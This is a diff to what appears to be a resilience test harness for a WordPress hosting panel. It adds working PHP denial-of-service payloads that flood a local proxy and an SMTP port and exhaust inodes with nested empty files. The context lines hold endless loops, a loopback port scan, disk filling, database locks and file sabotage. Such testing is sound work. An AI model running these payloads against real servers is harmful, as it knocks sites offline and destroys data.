@@ -19,6 +19,36 @@ $db->exec('ALTER TABLE wp_users RENAME TO wp_users_kept');
 $db->exec('CREATE VIEW wp_users AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i AS ID, i AS user_login FROM n');
 echo 'planted';`;
 
+/** Requests to the egress without reading one answer. */
+const PIPELINED = `
+set_time_limit(0);
+while (true) {
+  $s = @fsockopen("127.0.0.1", 3128, $n, $e, 1);
+  if (!$s) { usleep(10000); continue; }
+  stream_set_timeout($s, 1);
+  while (@fwrite($s, str_repeat("GET http://a.b/ HTTP/1.1\\r\\nHost: a.b\\r\\n\\r\\n", 200))) { }
+  fclose($s);
+}`;
+
+const ENDLESS_MAIL = `
+set_time_limit(0);
+while (true) {
+  $s = @fsockopen("127.0.0.1", 2525, $n, $e, 1);
+  if (!$s) { usleep(10000); continue; }
+  stream_set_timeout($s, 1);
+  foreach (array("EHLO x", "MAIL FROM:<a@b.example>", "RCPT TO:<c@d.example>", "DATA") as $line) { fgets($s); fwrite($s, $line . "\\r\\n"); }
+  while (@fwrite($s, str_repeat("noise without end\\r\\n", 1000))) { }
+  fclose($s);
+}`;
+
+const EMPTY_FILES = `
+set_time_limit(0);
+for ($round = 0; true; $round++) {
+  $folder = __DIR__ . "/deep-" . getmypid() . "-" . $round . str_repeat("/d", 100);
+  @mkdir($folder, 0755, true);
+  for ($i = 0; $i < 10000; $i++) { @touch($folder . "/" . $i); }
+}`;
+
 /** One for each finding that can go on for a while. The last ones leave the site broken. */
 export const ATTACKS: readonly Attack[] = [
   { name: 'endless loop', php: 'set_time_limit(0); while (true) { }', concurrency: 4 },
@@ -33,9 +63,12 @@ export const ATTACKS: readonly Attack[] = [
   { name: 'loopback scan', php: 'for ($i = 0; $i < 200; $i++) { $s = @fsockopen("127.0.0.1", 8000 + $i, $n, $e, 0.2); if ($s) { fwrite($s, "GET / HTTP/1.0\\r\\n\\r\\n"); fclose($s); } } echo "done";', concurrency: 4 },
   { name: 'files without end', php: 'set_time_limit(0); for ($i = 0; $i < 100000; $i++) { file_put_contents(__DIR__ . "/fill-" . $i, str_repeat("x", 4096)); } echo "done";', concurrency: 2 },
   { name: 'a file without end', php: 'set_time_limit(0); $f = fopen(__DIR__ . "/big", "a"); while (@fwrite($f, str_repeat("x", 1 << 20))) { }', concurrency: 1 },
+  { name: 'pipelined egress', php: PIPELINED, concurrency: 4 },
+  { name: 'a mail without end', php: ENDLESS_MAIL, concurrency: 4 },
   { name: 'error log', php: 'for ($i = 0; $i < 20000; $i++) { error_log(str_repeat("noise ", 100)); } echo "done";', concurrency: 4 },
   { name: 'unfinished uploads', unfinishedBytes: 50_000_000, concurrency: 24 },
   { name: 'anonymous 4xx', anonymousFlood: true, concurrency: 4 },
+  { name: 'deep empty files', php: EMPTY_FILES, concurrency: 2, panelCall: { method: 'GET', path: '/site/{id}/overview?check=now' } },
   { name: 'exclusive lock', php: '$db = new PDO("sqlite:" . dirname($_SERVER["DOCUMENT_ROOT"]) . "/data/wordpress.sqlite"); $db->exec("BEGIN EXCLUSIVE"); sleep(75);', concurrency: 1, panelCall: { method: 'GET', path: '/site/{id}/overview?check=now' } },
   { name: 'a pipe for a version', prepare: '@unlink($_SERVER["DOCUMENT_ROOT"] . "/wp-includes/version.php"); if (function_exists("posix_mkfifo")) { posix_mkfifo($_SERVER["DOCUMENT_ROOT"] . "/wp-includes/version.php", 0644); } echo "planted";', panelCall: { method: 'GET', path: '/site/{id}/overview?check=now' }, concurrency: 6 },
   { name: 'endless view', prepare: ENDLESS_VIEW, panelCall: { method: 'GET', path: '/site/{id}/overview?check=now' }, concurrency: 4 },
